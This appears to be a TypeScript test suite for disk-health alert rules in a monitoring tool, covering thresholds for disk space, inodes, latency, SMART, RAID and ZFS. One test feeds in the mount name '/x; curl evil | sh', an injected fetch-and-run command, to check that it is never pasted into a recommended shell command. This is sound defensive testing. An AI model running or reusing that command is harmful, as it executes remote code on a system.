import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { absentAndNull, evaluate, input, table } from './support.js';

const disk = (mount: string, extra: Record<string, unknown>) => ({ mount, device: '/dev/vda1', fstype: 'ext4', options: 'rw,relatime', ...extra });
const disks = (...list: unknown[]) => ({ disks: list });
const used = (percent: number | null) => disks(disk('/', { percent_used: percent }));

describe('disk_space_high: percent_used ≥ 85 warning, ≥ 95 critical, per mount', () => {
  table('disk_space_high', [
    ['84.9 %', used(84.9), 'clear'],
    ['85 %', used(85), 'warning'],
    ['94.9 %', used(94.9), 'warning'],
    ['95 %', used(95), 'critical'],
    ['100 %', used(100), 'critical'],
    ['percent_used missing: used/total 90 of 100 GB', disks(disk('/', { used_gb: 90, total_gb: 100 })), 'warning'],
    ['no percent and no sizes', used(null), 'clear'],
    ...absentAndNull('disks'),
    ['empty list: the agent could not read mounts', disks(), 'skip'],
    ['only null elements', disks(null, null), 'skip'],
    ['a mount without a name is not a subject', disks(disk('', { percent_used: 99 })), 'skip'],
    ['squashfs (snap) is always 100 %: not checked', disks(disk('/', { percent_used: 40 }), disk('/snap/core/1', { fstype: 'squashfs', percent_used: 100 })), 'clear'],
    ['override warning 90: 88 %', used(88), 'clear', { thresholds: { disk_space_high: { warning: 90 } } }],
    ['override critical 90: 92 %', used(92), 'critical', { thresholds: { disk_space_high: { critical: 90 } } }],
  ]);

  it('a disk full on two mounts yields two findings, the mounts as subjects; freeing one leaves the other', () => {
    const both = evaluate('disk_space_high', input(disks(
      disk('/', { percent_used: 40 }),
      disk('/var', { device: '/dev/vdb1', percent_used: 91, available_gb: 9 }),
      disk('/srv', { device: '/dev/vdc1', percent_used: 97 }),
    )))!;
    assert.deepEqual(both.map((f) => [f.subject, f.severity]), [['/var', 'warning'], ['/srv', 'critical']]);
    assert.equal(both[0]!.title, 'Disk /var is 91% full');
    assert.deepEqual(both[0]!.evidence, { mount: '/var', device: '/dev/vdb1', percent_used: 91, available_gb: 9, total_gb: null, threshold: 85 });
    assert.match(both[0]!.recommendation, /df -h \/var/);
    assert.match(both[0]!.recommendation, /du -xh --max-depth=1 \/var \| sort -h/);

    const one = evaluate('disk_space_high', input(disks(disk('/var', { percent_used: 60 }), disk('/srv', { percent_used: 97 }))))!;
    assert.deepEqual(one.map((f) => f.subject), ['/srv']);
  });

  it('a mount name that is not a plain path is never pasted into a command', () => {
    const [f] = evaluate('disk_space_high', input(disks(disk('/x; curl evil | sh', { percent_used: 99 }))))!;
    assert.equal(f!.subject, '/x; curl evil | sh');
    assert.doesNotMatch(f!.recommendation, /curl/);
    assert.match(f!.recommendation, /df -h <mount>/);
  });
});

describe('inode_high: inodes_used / inodes_total ≥ 85 % warning, ≥ 95 % critical; pseudo filesystems skipped', () => {
  const inodes = (mount: string, usedCount: number | null, total: number | null = 1000, extra: Record<string, unknown> = {}) =>
    disks(disk(mount, { inodes_used: usedCount, inodes_total: total, ...extra }));
  table('inode_high', [
    ['84.9 %', inodes('/', 849), 'clear'],
    ['85 %', inodes('/', 850), 'warning'],
    ['94.9 %', inodes('/', 949), 'warning'],
    ['95 %', inodes('/', 950), 'critical'],
    ['inodes_used missing: total − free', inodes('/', null, 1000, { inodes_free: 100 }), 'warning'],
    ['inodes_total 0 (vfat)', inodes('/data', 0, 0), 'clear'],
    ...['/proc', '/sys/fs/cgroup', '/dev', '/dev/shm', '/run', '/run/user/1000', '/snap/core/1', '/boot/efi'].map((m) =>
      [`${m} is skipped`, inodes(m, 999), 'clear'] as [string, Record<string, unknown>, 'clear']),
    ['/devices is not under /dev', inodes('/devices', 999), 'critical'],
    ['/boot is not /boot/efi', inodes('/boot', 990), 'critical'],
    ...absentAndNull('disks'),
    ['override warning 50: 60 %', inodes('/', 600), 'warning', { thresholds: { inode_high: { warning: 50 } } }],
  ]);
});

describe('filesystem_readonly: options starting with ro on a block device, not read-only by design', () => {
  const mount = (options: string | null, extra: Record<string, unknown> = {}) => disks(disk('/data', { options, ...extra }));
  table('filesystem_readonly', [
    ['rw', mount('rw,relatime'), 'clear'],
    ['ro', mount('ro,relatime'), 'warning'],
    ['only ro', mount('ro'), 'warning'],
    ['an option that merely starts with the letters "ro"', mount('rootcontext=system_u:object_r:tmp_t,rw'), 'clear'],
    ['ro in a later position (e.g. errors=remount-ro)', mount('rw,errors=remount-ro'), 'clear'],
    ['ro tmpfs (not a block device)', mount('ro', { device: 'tmpfs', fstype: 'tmpfs' }), 'clear'],
    ['ro ZFS dataset (not a block device)', mount('ro', { device: 'tank/data', fstype: 'zfs' }), 'clear'],
    ['ro iso9660 beside a rw root', disks(disk('/', {}), disk('/media/cd', { device: '/dev/sr0', fstype: 'iso9660', options: 'ro' })), 'clear'],
    ['ro erofs only: no mount left to judge', disks(disk('/usr', { fstype: 'erofs', options: 'ro' })), 'skip'],
    ['options null', mount(null), 'clear'],
    ...absentAndNull('disks'),
  ]);
});

describe('disk_latency_high: p99 ≥ 50 ms NVMe / 200 ms others warning, 5 × critical', () => {
  const p99 = (device: string, ms: number) => disks(disk('/', { device, latency_p99_ms: ms }));
  const avg = (device: string, read: number | null, write: number | null) => ({ io_latency: [{ device, avg_read_latency_ms: read, avg_write_latency_ms: write }] });
  table('disk_latency_high', [
    ['NVMe 49.9 ms', p99('/dev/nvme0n1p1', 49.9), 'clear'],
    ['NVMe 50 ms', p99('/dev/nvme0n1p1', 50), 'warning'],
    ['NVMe 249.9 ms', p99('/dev/nvme0n1p1', 249.9), 'warning'],
    ['NVMe 250 ms', p99('/dev/nvme0n1p1', 250), 'critical'],
    ['SATA 199.9 ms', p99('/dev/sda1', 199.9), 'clear'],
    ['SATA 200 ms', p99('/dev/sda1', 200), 'warning'],
    ['SATA 999 ms', p99('/dev/sda1', 999), 'warning'],
    ['SATA 1000 ms', p99('/dev/sda1', 1000), 'critical'],
    ['no p99: io_latency averages, max of read and write', avg('sdb', 1, 300), [['/dev/sdb', 'warning']]],
    ['io_latency below the level', avg('sdb', 10, 20), 'clear'],
    ['io_latency without values (the VM fixture)', avg('vda', null, null), 'skip'],
    ['p99 present: io_latency is not used', { ...p99('/dev/sda1', 5), ...avg('sdb', 900, 900) }, 'clear'],
    ['disks without latency and no io_latency', used(50), 'skip'],
    ['disks and io_latency absent', {}, 'skip'],
    ['disks and io_latency null', { disks: null, io_latency: null }, 'skip'],
    ['override warning 10: NVMe 20 ms', p99('/dev/nvme0n1', 20), 'warning', { thresholds: { disk_latency_high: { warning: 10 } } }],
    ['override warning 10: SATA at 4 × 10 = 40 ms', p99('/dev/sda', 40), 'warning', { thresholds: { disk_latency_high: { warning: 10 } } }],
    ['override warning 10: SATA 39 ms', p99('/dev/sda', 39), 'clear', { thresholds: { disk_latency_high: { warning: 10 } } }],
  ]);
});

describe('disk_io_errors: io_errors.count > 0 is critical', () => {
  table('disk_io_errors', [
    ['count 0', { io_errors: { count: 0, devices: [] } }, 'clear'],
    ['count 1', { io_errors: { count: 1, devices: ['sdb'] } }, 'critical'],
    ['count null', { io_errors: { count: null } }, 'skip'],
    ...absentAndNull('io_errors'),
  ]);

  it('names the devices and the check for one of them', () => {
    const [f] = evaluate('disk_io_errors', input({ io_errors: { count: 3, devices: ['sdb'] } }))!;
    assert.deepEqual(f!.evidence, { count: 3, devices: ['sdb'] });
    assert.match(f!.recommendation, /smartctl -a \/dev\/sdb/);
  });
});

describe('smart_failing: health not PASSED/OK, or reallocated > 0, or pending > 0', () => {
  const drive = (extra: Record<string, unknown>) => ({ smart: [{ device: '/dev/sda', model: 'HDD', health: 'PASSED', reallocated_sectors: 0, pending_sectors: 0, ...extra }] });
  table('smart_failing', [
    ['PASSED, no bad sectors', drive({}), 'clear'],
    ['OK (SAS)', drive({ health: 'OK' }), 'clear'],
    ['passed in lower case', drive({ health: ' passed ' }), 'clear'],
    ['empty health is unknown, not failing', drive({ health: '' }), 'clear'],
    ['health null', drive({ health: null }), 'clear'],
    ['FAILED', drive({ health: 'FAILED' }), 'critical'],
    ['reallocated 1', drive({ reallocated_sectors: 1 }), 'critical'],
    ['pending 1', drive({ pending_sectors: 1 }), 'critical'],
    ['empty list', { smart: [] }, 'skip'],
    ['list of null', { smart: [null] }, 'skip'],
    ...absentAndNull('smart'),
    ['no numeric level: an override is ignored', drive({ reallocated_sectors: 8 }), 'critical', { thresholds: { smart_failing: { critical: 100 } } }],
  ]);

  it('says why, and what to run', () => {
    const [f] = evaluate('smart_failing', input(drive({ health: 'FAILED', pending_sectors: 8 })))!;
    assert.equal(f!.title, 'Drive /dev/sda is failing (SMART)');
    assert.equal(f!.message, '/dev/sda (HDD): health FAILED, 8 pending sectors.');
    assert.match(f!.recommendation, /smartctl -a \/dev\/sda/);
  });
});

describe('nvme_wear_high: percentage_used ≥ 75 info, ≥ 85 warning, ≥ 95 critical', () => {
  const wear = (percent: number | null) => ({ smart: [{ device: '/dev/nvme0n1', type: 'nvme', health: 'PASSED', percentage_used: percent }] });
  table('nvme_wear_high', [
    ['74.9', wear(74.9), 'clear'],
    ['75', wear(75), 'info'],
    ['84.9', wear(84.9), 'info'],
    ['85', wear(85), 'warning'],
    ['94.9', wear(94.9), 'warning'],
    ['95', wear(95), 'critical'],
    ['120 (NVMe may report past 100)', wear(120), 'critical'],
    ['not reported (a hard disk)', wear(null), 'clear'],
    ...absentAndNull('smart'),
    ['override warning 80: 82', wear(82), 'warning', { thresholds: { nvme_wear_high: { warning: 80 } } }],
  ]);
});

describe('raid_degraded: degraded, or failed_disks not empty', () => {
  const array = (extra: Record<string, unknown>) => ({ raid: [{ device: '/dev/md0', level: 'raid1', state: 'clean', degraded: false, failed_disks: [], ...extra }] });
  table('raid_degraded', [
    ['clean', array({}), 'clear'],
    ['resyncing is not degraded', array({ state: 'active, resyncing', sync_percent: 40 }), 'clear'],
    ['degraded', array({ degraded: true, state: 'clean, degraded' }), 'critical'],
    ['state says degraded', array({ degraded: null, state: 'clean, degraded' }), 'critical'],
    ['a failed member', array({ failed_disks: ['sdb2'] }), 'critical'],
    ['failed_disks [null]', array({ failed_disks: [null] }), 'clear'],
    ['empty list', { raid: [] }, 'skip'],
    ...absentAndNull('raid'),
  ]);
});

describe('zfs_pool_unhealthy: DEGRADED warning, any other state but ONLINE critical', () => {
  const pool = (state: string | null, available: boolean | null = true) => ({ zfs: { available, pools: [{ name: 'tank', state }] } });
  table('zfs_pool_unhealthy', [
    ['ONLINE', pool('ONLINE'), 'clear'],
    ['online (case)', pool('online'), 'clear'],
    ['DEGRADED', pool('DEGRADED'), 'warning'],
    ['FAULTED', pool('FAULTED'), 'critical'],
    ['UNAVAIL', pool('UNAVAIL'), 'critical'],
    ['SUSPENDED', pool('SUSPENDED'), 'critical'],
    ['state unknown', pool(null), 'clear'],
    ['zfs not available', pool('FAULTED', false), 'skip'],
    ['no pools', { zfs: { available: true, pools: [] } }, 'skip'],
    ...absentAndNull('zfs'),
  ]);
});

describe('zfs_scrub_errors: scrub_errors > 0 warning; never scrubbed info', () => {
  const pool = (extra: Record<string, unknown>) => ({ zfs: { available: true, pools: [{ name: 'tank', state: 'ONLINE', ...extra }] } });
  table('zfs_scrub_errors', [
    ['0 errors', pool({ scrub_state: 'finished', scrub_errors: 0 }), 'clear'],
    ['1 error', pool({ scrub_state: 'finished', scrub_errors: 1 }), 'warning'],
    ['never scrubbed (scrub_state none)', pool({ scrub_state: 'none', scrub_errors: null }), 'info'],
    ['never scrubbed (scrub_never_run)', pool({ scrub_never_run: true }), 'info'],
    ['errors outrank never-run', pool({ scrub_state: 'none', scrub_errors: 2 }), 'warning'],
    ['nothing known about scrubs', pool({}), 'clear'],
    ...absentAndNull('zfs'),
  ]);
});
